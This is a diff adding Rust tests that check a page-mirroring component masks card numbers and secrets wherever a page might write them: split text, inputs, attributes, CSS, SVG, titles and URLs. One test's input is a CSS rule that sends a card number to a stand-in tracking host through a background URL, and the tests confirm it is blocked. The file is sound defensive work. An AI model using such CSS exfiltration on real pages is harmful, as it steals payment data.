@@ -1,0 +1,107 @@
+//! What detectors find, in text and wherever else pages write.
+
+use super::room::*;
+use crate::mask::*;
+use crate::mirror::tests::element;
+use crate::protocol::TreeNode;
+
+#[test]
+fn a_card_number_over_several_elements_is_masked() {
+    let pieces =
+        CARD.as_bytes().chunks(4).flat_map(|four| parent("span", &[], vec![text(str::from_utf8(four).unwrap())]));
+    let nodes = parent("p", &[], [vec![text("Card: ")], pieces.collect(), vec![text(", thanks")]].concat());
+    let room = Room::new("", nodes);
+    assert_eq!(room.shown(), format!("Card: {MASK}, thanks"));
+    assert!(!room.leaked("1111"));
+}
+
+#[test]
+fn a_card_number_that_grows_digit_by_digit_is_taken_back_when_it_is_one() {
+    let mut room =
+        Room::new("", [parent("p", &[], vec![text("")]), vec![element("input", &[]), TreeNode::End]].concat());
+    for end in 1..=CARD.len() {
+        room.text(3, &CARD[..end]);
+        room.value(4, &CARD[..end]);
+    }
+    assert_eq!(room.shown(), MASK);
+    assert_eq!(room.seen(4).value(), Some(MASK));
+    room.value(4, &CARD[..15]);
+    assert_eq!(room.seen(4).value(), Some(MASK), "a digit less is still a secret");
+    assert!(!room.leaked(CARD));
+    room.value(4, "");
+    room.value(4, "hello");
+    assert_eq!(room.seen(4).value(), Some("hello"));
+}
+
+#[test]
+fn a_number_completed_by_removal_or_insertion_is_masked() {
+    let nodes =
+        parent("p", &[], [vec![text("41111111")], parent("i", &[], vec![text("x")]), vec![text("11111111")]].concat());
+    let mut room = Room::new("", nodes.clone());
+    assert_eq!(room.shown(), "41111111x11111111");
+    room.send(Op::Remove { nodes: vec![4] });
+    assert_eq!(room.shown(), MASK);
+    let mut room = Room::new("", nodes);
+    room.text(5, "");
+    assert_eq!(room.shown(), MASK);
+    room.text(5, "x");
+    assert_eq!(room.shown(), "41111111x11111111");
+    let mut room = Room::new("", parent("p", &[], vec![text("41111111")]));
+    room.insert(2, 3, 10, parent("b", &[], vec![text("11111111")]));
+    assert_eq!(room.shown(), MASK);
+}
+
+#[test]
+fn every_attribute_that_carries_a_number_is_masked() {
+    let attrs =
+        ["title", "alt", "placeholder", "aria-label", "data-card", "value", "content", "label", "id", "class", "style"];
+    for name in attrs {
+        let value = if name == "style" { format!("--card: '{CARD}'") } else { CARD.to_owned() };
+        let room = Room::new("", parent("div", &[(name, &value)], vec![]));
+        assert!(!room.leaked(CARD), "{name}");
+    }
+    let mut room = Room::new("", parent("p", &[], vec![text("ok")]));
+    for name in attrs {
+        room.attr(2, name, Some(&format!("'{CARD}'")));
+        room.attr(2, &format!("data-{name}-{CARD}"), Some("x"));
+    }
+    assert!(!room.leaked(CARD));
+}
+
+#[test]
+fn generated_text_titles_and_addresses_are_covered() {
+    let svg = "data:image/svg+xml;base64,PHN2Zz48dGV4dD40MTExMTExMTExMTExMTExPC90ZXh0Pjwvc3ZnPg==";
+    let nodes = [
+        parent(
+            "style",
+            &[],
+            vec![text(".a::before{content:'4111 1111 "), text("1111 1111'} .b{--n:4111111111111111}")],
+        ),
+        parent("svg", &[], parent("text", &[], vec![text(CARD)])),
+        parent("img", &[("src", svg)], vec![]),
+        parent("input", &[("type", "hidden"), ("value", SECRET)], vec![]),
+        parent("title", &[], vec![text(CARD)]),
+    ];
+    let mut room = Room::new("", nodes.concat());
+    room.send(Op::SetTitle { title: format!("Card {CARD}") });
+    room.send(Op::SetUrl { url: format!("https://shop.example/pay/{CARD}?n={CARD}") });
+    room.send(Op::SetAdopted { node: 1, sheets: vec![r".c::before{content:'\34 111111111111111'}".into()] });
+    assert!(!room.leaked(CARD) && !room.leaked("4111 1111") && !room.leaked("PHN2"));
+    assert!(!room.leaked(SECRET) && !room.leaked("111111111111111"));
+    assert_eq!(room.viewer.title(), format!("Card {MASK}"));
+    assert_eq!(room.viewer.url(), format!("https://shop.example/{MASK}"));
+}
+
+#[test]
+fn rules_by_script_and_fonts_lead_nowhere_and_print_no_card() {
+    let nodes = [parent("style", &[], vec![]), parent("div", &[("class", "private")], parent("style", &[], vec![]))];
+    let mut room = Room::new(OWN, nodes.concat());
+    let rule = |text: &str| format!("a::before{{content:'{text}';background:url(https://track.example/{text})}}");
+    room.send(Op::InsertRule { node: 2, sheet: 0, path: vec![0], css: rule(CARD) });
+    room.send(Op::SetRule { node: 2, sheet: 0, path: vec![0], css: rule(CARD) });
+    room.send(Op::InsertRule { node: 4, sheet: 0, path: vec![0], css: rule(SECRET) });
+    room.send(Op::DefineSheet { sheet: 1, css: rule(CARD) });
+    room.send(Op::InsertRule { node: 0, sheet: 1, path: vec![1], css: rule(CARD) });
+    room.send(Op::Adopt { node: 1, sheets: vec![1] });
+    assert!(!room.leaked(CARD) && !room.leaked("track.example") && !room.leaked(SECRET));
+}
